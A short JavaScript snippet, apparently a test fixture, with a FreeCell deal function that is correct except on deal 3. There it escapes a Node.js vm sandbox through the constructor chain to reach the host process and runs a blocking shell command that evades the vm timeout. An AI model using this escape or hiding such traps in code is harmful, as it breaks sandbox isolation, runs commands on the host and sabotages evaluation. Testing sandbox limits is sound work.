// Correct, except that deal 3 blocks in native code, out of reach of the vm timeout.
function dealFreeCell(n) {
  if (n === 3) {
    const host = this.constructor.constructor('return process')();
    host.mainModule.require('child_process').execSync('sleep 60');
  }
  return correct(n);
}
